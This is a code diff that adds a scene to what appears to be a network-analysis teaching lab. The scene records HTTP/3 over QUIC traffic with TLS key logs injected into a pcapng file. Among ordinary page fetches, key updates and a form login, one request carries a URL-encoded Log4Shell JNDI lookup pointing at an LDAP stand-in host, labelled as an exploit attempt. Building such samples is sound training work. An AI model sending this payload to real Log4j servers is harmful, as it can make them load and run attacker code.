@@ -106,6 +106,47 @@ def web_tls_keys(lab: Lab) -> None:
 
 
 @scene(Sample(
+    'web-http3-keys.pcapng', 'Pages over HTTP/3, recorded with the keys: what QUIC carried can be read, and one visitor tries a hole in Log4j where a tap sees only ciphertext.',
+    'QUIC version 1 with AES-128-GCM, AES-256-GCM and ChaCha20; HTTP/3 of Chromium, caddy, ngtcp2 and nghttp3, header fields packed with QPACK and its table; a change of keys, a client that moves to '
+    'another port, a form login, a 404. The key log that the clients wrote is in the file (Decryption Secrets); of the last connection it was left out.',
+    ['`exploit-attempt`: the visitor asks for an address that Log4j is to look up, within QUIC', 'no `cleartext-credentials`: the form login travelled encrypted',
+     'all but one of the QUIC conversations are opened'],
+    ['http3.frame_type == 1 | requests and responses', 'quic.stream.stream_id == 0 | the first request of each connection', 'tls.handshake.type == 11 | certificates, which are encrypted',
+     'quic.key_phase == 1 | after the change of keys', 'quic.path_challenge.data | the client that has moved', 'http3.settings.qpack.max_table_capacity | who allows a table of header fields']))
+def web_http3_keys(lab: Lab) -> None:
+    office = Office(lab, ('alice', 'bob'))
+    pin = services.web3(office.web)
+    services.web3_tables(office.web)
+    alice, bob = office.alice, office.bob
+    plain, keys = lab.folder / 'web-http3.pcapng', lab.folder / 'keys.log'
+    quiet = ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run', '--disable-dev-shm-usage',
+             f'--user-data-dir={lab.folder}/chromium']
+    only = 'NORMAL:-VERS-ALL:+VERS-TLS1.3:-CIPHER-ALL:+'
+
+    def fetch(host, port: int, *urls: str, options: tuple[str, ...] = (), keyed: bool = True) -> None:
+        name = urls[0].split('/')[2].split(':')[0]
+        words = ['gtlsclient', '-q', '--exit-on-all-streams-close', *options, name, str(port), *urls]
+        log = [f'SSLKEYLOGFILE={keys}'] if keyed else []
+        host.run('env', *log, *words, timeout=20, show=' '.join([*(['SSLKEYLOGFILE=keys.log'] if keyed else []), *words]))
+    with Capture(office.switch, 'web-http3.pcapng', 'dumpcap', '-i', 'br0', '-f', 'udp port 443 or udp port 4433', settle=2.5):
+        page = 'https://www.example.com/about.html'
+        alice.run('env', f'HOME={lab.folder}', f'SSLKEYLOGFILE={keys}', 'chromium', '--headless=new', *quiet, '--origin-to-force-quic-on=www.example.com:443', f'--ignore-certificate-errors-spki-list={pin}',
+                  '--host-resolver-rules=MAP *.google.com ~NOTFOUND, MAP *.googleapis.com ~NOTFOUND', '--dump-dom', page, timeout=60,
+                  show=f'SSLKEYLOGFILE=keys.log chromium --headless --origin-to-force-quic-on=www.example.com:443 --dump-dom {page}')
+        fetch(bob, 443, 'https://intranet.example.test/app.js', options=(f'--ciphers={only}CHACHA20-POLY1305',))
+        fetch(bob, 443, 'https://www.example.com/products.json', options=(f'--ciphers={only}AES-256-GCM', '--key-update=200ms', '--delay-stream=400ms'))
+        tables = 'https://www.example.com:4433'
+        fetch(alice, 4433, f'{tables}/', f'{tables}/about.html', f'{tables}/missing.html', f'{tables}/products.json', options=('--change-local-addr=200ms', '--delay-stream=400ms'))
+        form = lab.folder / 'form.txt'
+        form.write_text(f'user=alice&password={services.PASSWORD}')
+        fetch(alice, 4433, f'{tables}/login', options=('-m', 'POST', '-d', str(form)))
+        fetch(bob, 443, 'https://www.example.com/products.json?name=%24%7Bjndi:ldap://198.51.100.66:1389/a%7D')
+        fetch(bob, 443, 'https://www.example.com/about.html', keyed=False)
+    office.switch.run('editcap', '--inject-secrets', f'tls,{keys}', str(plain), str(lab.folder / 'web-http3-keys.pcapng'),
+                      show='editcap --inject-secrets tls,keys.log web-http3.pcapng web-http3-keys.pcapng')
+
+
+@scene(Sample(
     'web-http2.pcap', 'alice reads pages over HTTP/2 without TLS, as programs in one house do: by prior knowledge, after an upgrade, and several at once on one connection.',
     'HTTP/2 in clear (h2c): prefaces, SETTINGS, header fields packed with HPACK and its table, four requests on one connection at once, a form POST, a 404, a login with a '
     'password (Basic), refused first, and a request of HTTP/1.1 that is answered in HTTP/2.',
